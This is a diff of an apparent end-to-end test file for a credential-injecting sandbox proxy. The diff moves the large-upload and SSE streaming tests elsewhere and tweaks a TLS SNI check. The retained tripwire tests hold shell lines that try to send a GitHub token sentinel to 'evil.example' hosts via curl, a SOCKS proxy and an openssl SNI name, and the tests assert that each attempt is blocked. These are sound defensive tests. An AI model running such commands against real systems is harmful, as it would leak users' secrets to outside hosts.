@@ -1,9 +1,8 @@
 // Credentials end to end (SPEC §7, §10 invariants 5 and 11): the real srt, real bubblewrap,
 // real clients inside (curl, python3, node, openssl) and loopback upstreams outside that record
 // every byte they receive. 127.0.0.2 is an inject host; 127.0.0.3 is allowed but is not.
-// Plain HTTP with allowPlaintextInject here; terminated HTTPS is covered with TLS termination.
-import { spawn } from 'node:child_process';
-import { createHash } from 'node:crypto';
+// Plain HTTP with allowPlaintextInject here; terminated TLS (HTTP/1.1 and HTTP/2), SSE and the
+// 200 MB upload are in credentials-tls.test.ts.
 import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import http from 'node:http';
 import { connect as connectNet, createServer as createNetServer, type AddressInfo, type Server, type Socket } from 'node:net';
@@ -12,7 +11,7 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import * as jose from 'jose';
 import { base62, crc32 } from '../../src/credentials/sentinels.js';
-import { keyValues, REPO, srt, SRT_BIN, tempDir, writeTree } from './helpers.js';
+import { keyValues, REPO, srt, tempDir, writeTree } from './helpers.js';
 import { rmrf, selfSigned } from './proxy-fixtures.js';
 
 const tmp = tempDir('srt-cred-');
@@ -41,24 +40,6 @@ interface Upstream {
 function handler(req: http.IncomingMessage, res: http.ServerResponse): void {
   const chunks: Buffer[] = [];
   const url = req.url ?? '/';
-  if (url.startsWith('/upload')) {
-    const hash = createHash('sha256');
-    let n = 0;
-    req.on('data', (c: Buffer) => { hash.update(c); n += c.length; });
-    req.on('end', () => res.end(JSON.stringify({ bytes: n, sha256: hash.digest('hex') })));
-    return;
-  }
-  if (url.startsWith('/sse')) {
-    res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache' });
-    let i = 0;
-    const timer = setInterval(() => {
-      const tok = i === 2 ? req.headers.authorization ?? '' : '';
-      res.write(`data: ${JSON.stringify({ i, t: Date.now(), tok })}\n\n`);
-      if (++i === 6) { clearInterval(timer); res.end(); }
-    }, 100);
-    req.on('close', () => clearInterval(timer));
-    return;
-  }
   req.on('data', (c: Buffer) => chunks.push(c));
   req.on('end', () => {
     const body = Buffer.concat(chunks).toString();
@@ -313,8 +294,9 @@ describe('the tripwire: sentinels on their way outside their injectHosts', () =>
       `echo "connect=$(curl -s -o /dev/null -w '%{http_connect}' -p "https://$(echo $GH_TOKEN | tr A-Z a-z).evil.example/")"`,
       `curl -s --max-time 5 --socks5-hostname 127.0.0.1:1080 "http://$GH_TOKEN.evil.example/" >/dev/null 2>&1; echo "socks_host=$?"`,
       `curl -s --max-time 5 --socks5-hostname 127.0.0.1:1080 -H "X-Note: $GH_TOKEN" ${base}/socks >/dev/null 2>&1; echo "socks_plain=$?"`,
-      // The same TLS connection through a CONNECT tunnel, once with a clean SNI name, once with the sentinel.
-      `echo | timeout 10 openssl s_client -proxy 127.0.0.1:3128 -connect 127.0.0.3:${tlsPort} -servername clean.example >/dev/null 2>&1; echo "sni_clean=$?"`,
+      // The same TLS connection through a CONNECT tunnel, once with a clean SNI name (its
+      // ClientHello reaches the server), once with the sentinel (it never does).
+      `echo | timeout 10 openssl s_client -proxy 127.0.0.1:3128 -connect 127.0.0.3:${tlsPort} -servername clean.example >/dev/null 2>&1`,
       `echo | timeout 10 openssl s_client -proxy 127.0.0.1:3128 -connect 127.0.0.3:${tlsPort} -servername "$(echo $GH_TOKEN | tr A-Z a-z).example" >/dev/null 2>&1; echo "sni=$?"`,
       code('npm_unset_ok', `curl ${base}/clean`),
     ].join('\n'));
@@ -322,7 +304,6 @@ describe('the tripwire: sentinels on their way outside their injectHosts', () =>
     expect(r.kv).toMatchObject({ header: '403', query: '403', basic: '403', body: '403', connect: '403', npm_unset_ok: '200' });
     expect(r.kv.socks_host).not.toBe('0');
     expect(r.kv.socks_plain).not.toBe('0');
-    expect(r.kv.sni_clean).toBe('0');
     expect(r.kv.sni).not.toBe('0');
     expect(Buffer.concat(tlsReceived).toString('latin1')).toContain('clean.example');
     expect(Buffer.concat(tlsReceived).toString('latin1')).not.toMatch(/ghp_[a-z0-9]{36}/);
@@ -346,75 +327,6 @@ describe('the tripwire: sentinels on their way outside their injectHosts', () =>
     expect(inject.raw()).toMatch(/Authorization: token ghp_[A-Za-z0-9]{36}\r\n/);
     expect(inject.raw()).not.toContain(GH);
     expect(r.stderr).toContain('masked without network.tlsTerminate: the sentinel would reach the server unchanged');
-  });
-});
-
-describe('streaming', () => {
-  it('a 200 MB upload with sentinels on chunk boundaries arrives intact and substituted; srt stays under 150 MB', async () => {
-    // The same generator inside (with the sentinel) and here (with the real value).
-    // 3200 blocks of 64 KiB; a token crosses every block boundary, 1 to 40 bytes of it before it.
-    const gen = [
-      "const tok = Buffer.from(process.argv[2]); const n = 3200; const B = 65536; const out = process.stdout;",
-      'let i = 0; let carry = Buffer.alloc(0);',
-      'function more() {',
-      '  while (i < n) {',
-      "    const b = Buffer.alloc(B, 'x'); carry.copy(b, 0); carry = Buffer.alloc(0);",
-      '    if (i < n - 1) { const at = B - 1 - (i % 40); tok.copy(b, at, 0, B - at); carry = tok.subarray(B - at); }',
-      '    i++;',
-      '    if (!out.write(b)) return out.once("drain", more);',
-      '  }',
-      '}',
-      'more();',
-    ].join('\n');
-    writeFileSync(join(cwd, 'gen.cjs'), gen);
-    const expected = await new Promise<string>((resolve) => {
-      const child = spawn(process.execPath, [join(cwd, 'gen.cjs'), BODY_KEY]);
-      const h = createHash('sha256');
-      child.stdout.on('data', (c: Buffer) => h.update(c));
-      child.on('close', () => resolve(h.digest('hex')));
-    });
-    writeFileSync(settingsFile, JSON.stringify(baseSettings()));
-    const child = spawn(process.execPath, [SRT_BIN, '--settings', settingsFile, '-c',
-      `node gen.cjs "$BODY_KEY" | curl -s -T - -H 'content-type: application/octet-stream' http://127.0.0.2:${inject.port}/upload; echo; sleep 1`],
-    { cwd, env: { PATH: process.env.PATH, HOME: home, LANG: 'C.UTF-8', ...baseEnv() } });
-    let out = '';
-    let peak = 0;
-    child.stdout.on('data', (b: Buffer) => { out += b; });
-    const sample = setInterval(() => {
-      try {
-        const hwm = /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${child.pid}/status`, 'utf8'));
-        if (hwm) peak = Math.max(peak, Number(hwm[1]) / 1024);
-      } catch { /* exited */ }
-    }, 50);
-    const status = await new Promise<number | null>((resolve) => child.on('close', resolve));
-    clearInterval(sample);
-    expect(status, out).toBe(0);
-    const result = JSON.parse(out.trim());
-    expect(result.bytes).toBe(3200 * 65536);
-    expect(result.sha256).toBe(expected);
-    expect(peak).toBeGreaterThan(0);
-    expect(peak).toBeLessThan(150);
-  }, 120_000);
-
-  it('an SSE stream from an inject host arrives event by event, the echoed token re-masked', async () => {
-    const client = [
-      "const http = require('http');",
-      `const req = http.request({ host: '127.0.0.1', port: 3128, path: 'http://127.0.0.2:${inject.port}/sse', headers: { authorization: 'token ' + process.env.GH_TOKEN } }, (res) => {`,
-      "  let buf = ''; res.setEncoding('utf8');",
-      "  res.on('data', (d) => { buf += d; let k; while ((k = buf.indexOf('\\n\\n')) !== -1) { const ev = JSON.parse(buf.slice(6, k)); buf = buf.slice(k + 2); console.log('event=' + JSON.stringify({ i: ev.i, late: Date.now() - ev.t, tok: ev.tok })); } });",
-      '});',
-      'req.end();',
-    ].join('\n');
-    writeFileSync(join(cwd, 'sse.cjs'), client);
-    const r = await run('node sse.cjs; echo gh=$GH_TOKEN');
-    expect(r.exitCode, r.stderr).toBe(0);
-    noReal(r.stdout);
-    const events = r.stdout.split('\n').filter((l) => l.startsWith('event=')).map((l) => JSON.parse(l.slice(6)));
-    expect(events.map((e) => e.i)).toEqual([0, 1, 2, 3, 4, 5]);
-    expect(events[2].tok).toBe(`token ${r.kv.gh}`);
-    // Each event reached the client long before the next was sent (100 ms later): nothing is
-    // buffered. The 20 ms figure is measured by the benchmark, not asserted on a shared machine.
-    for (const e of events) expect(e.late, JSON.stringify(events)).toBeLessThan(80);
   });
 });
 
